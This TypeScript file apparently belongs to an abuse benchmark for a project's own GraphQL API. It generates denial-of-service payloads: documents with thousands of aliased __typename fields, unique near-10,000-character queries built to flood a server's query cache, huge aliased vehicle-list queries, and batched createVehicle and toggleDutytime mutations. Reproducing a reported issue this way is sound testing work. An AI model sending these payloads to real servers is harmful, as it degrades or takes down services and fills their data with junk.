// The GraphQL documents of the attacks. Distinct documents carry the request's number in
// every alias, so no two requests share a document (nothing a server caches by text is reused).
import { vehicleSelection } from "../lib/vehicleSelection";

const base36 = (n: number, width: number) => (n % 36 ** width).toString(36).padStart(width, "0");

/**
 * `{ a<iii><jjj>:__typename ... }` with `count` aliases of 19 characters each (with the space), as
 * in the issue: 5,000 of them make ~95 KB, 25,000 ~477 KB. The request's number (base 36, 3
 * digits) makes each of 46,656 requests distinct; the alias's number (3 digits) counts to 46,656.
 */
export function typenameAliases(i: number, count: number): string {
  const prefix = `a${base36(i, 3)}`;
  const parts: string[] = [];
  for (let j = 0; j < count; j++) parts.push(`${prefix}${base36(j, 3)}:__typename`);
  return `{ ${parts.join(" ")} }`;
}

/**
 * A distinct valid document of at most `chars` characters (attack 1: just under 10,000, so that
 * its JSON body stays within 10,000 too: a server may treat bodies up to that size as everyday
 * queries worth keeping, and the attack is the documents it keeps).
 */
export function typenameDocumentOfLength(i: number, chars: number): string {
  const prefix = `a${i.toString(36)}x`;
  const parts: string[] = [];
  let length = 4; // "{ " and " }"
  for (let j = 0; ; j++) {
    const part = `${prefix}${j.toString(36)}:__typename`;
    if (length + part.length + 1 > chars) break;
    parts.push(part);
    length += part.length + 1;
  }
  return `{ ${parts.join(" ")} }`;
}

/** `count` aliases of a page of 100 vehicles with all their fields, as the list query asks for them (800 of them: ~124 KB with the 14 fields of today). */
export function vehiclePageAliases(count: number): string {
  const parts: string[] = [];
  for (let k = 0; k < count; k++) parts.push(`a${k}: vehicles(perPage:100){data{${vehicleSelection}}}`);
  return `{ ${parts.join(" ")} }`;
}

/** One mutation of `count` aliased createVehicle calls; plates carry the request's number. */
export function createVehicleAliases(i: number, count: number): string {
  const parts: string[] = [];
  for (let k = 0; k < count; k++) parts.push(`c${k}: createVehicle(input:{plate:"AB-${i}-${k}", owner:"Abuse Bench"}){id}`);
  return `mutation { ${parts.join(" ")} }`;
}

/** One mutation of `count` aliased toggleDutytime calls of one officer. */
export function toggleAliases(identifier: string, count: number): string {
  const parts: string[] = [];
  for (let k = 0; k < count; k++) parts.push(`t${k}: toggleDutytime(identifier:${JSON.stringify(identifier)}){onDuty}`);
  return `mutation { ${parts.join(" ")} }`;
}

export const graphqlBody = (query: string, variables?: unknown) => JSON.stringify(variables === undefined ? { query } : { query, variables });

/** A body's size: in KB of 1,000 bytes, as the issue gives its documents' sizes; bytes when small. */
export const kb = (text: string | Buffer) => {
  const bytes = Buffer.byteLength(text);
  return bytes < 10_000 ? `${bytes.toLocaleString("en-US")} bytes` : `${Math.round(bytes / 1000)} KB`;
};
